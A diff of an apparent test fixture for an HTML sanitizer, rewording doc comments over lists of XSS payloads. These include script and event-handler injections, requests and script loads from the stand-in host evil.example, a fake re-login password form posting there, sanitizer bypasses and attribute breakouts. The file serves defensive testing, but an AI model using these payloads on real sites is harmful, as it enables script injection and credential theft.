@@ -1,8 +1,8 @@
-/** The number of a payload stands in the place of the sign. */
+/** The § stands for the number of the payload. */
 const HURT = 'window.hurt=§'
 const THERE = 'http://evil.example'
 
-/** Each runs by itself or when it is touched, where a page takes it in as it is. */
+/** Payloads that run by themselves or on interaction, if the page inserts them unchanged. */
 const running = [
   `<script>${HURT}</script>`,
   `<SCRIPT type="text/javascript">${HURT}</SCRIPT>`,
@@ -95,7 +95,7 @@ const running = [
   `<fieldset oninvalid="${HURT}"><input required></fieldset>`,
 ]
 
-/** Each asks another site for something by itself. */
+/** Payloads that send a request to another site by themselves. */
 const calling = [
   `<img src="${THERE}/picture">`,
   `<img srcset="${THERE}/set 1x">`,
@@ -119,7 +119,7 @@ const calling = [
   `<script src="${THERE}/script.js"></script>`,
 ]
 
-/** What must not stand in an announcement though it does nothing by itself, and what classic sanitisers let through. */
+/** Markup that announcements must not contain although it does nothing by itself, and known bypasses of sanitizers. */
 const lurking = [
   `<svg><use href="${THERE}/use.svg#a"></use></svg>`,
   `<form action="${THERE}/form"><input name="password" type="password"><button>Login again</button></form>`,
@@ -158,7 +158,10 @@ const lurking = [
   `<x-own onclick="${HURT}" is="x-own">sly</x-own><portal src="${THERE}"></portal>`,
 ]
 
-/** What leaves an attribute, an address, a script, a comment or a title, each with the careless page that lets it out. */
+/**
+ * Payloads that break out of an attribute, a URL, a script, a comment or a title, each with a careless page that lets
+ * them out.
+ */
 const leaving: [string, (text: string) => string][] = [
   [`"><img src=x onerror=${HURT}>`, (text) => `<input value="${text}">`],
   [`'><svg onload=${HURT}>`, (text) => `<input value='${text}'>`],
@@ -199,7 +202,7 @@ const listed: [Kind, string, (text: string) => string][] = [
   ...leaving.map(([text, careless]) => ['leaving', text, careless] as [Kind, string, (text: string) => string]),
 ]
 
-/** Every payload under its number, which it leaves in `window.hurt` where it runs. */
+/** Every payload with its number, which it writes to `window.hurt` when it runs. */
 export const payloads: Payload[] = listed.map(([kind, text, careless], at) => ({
   number: at + 1,
   kind,
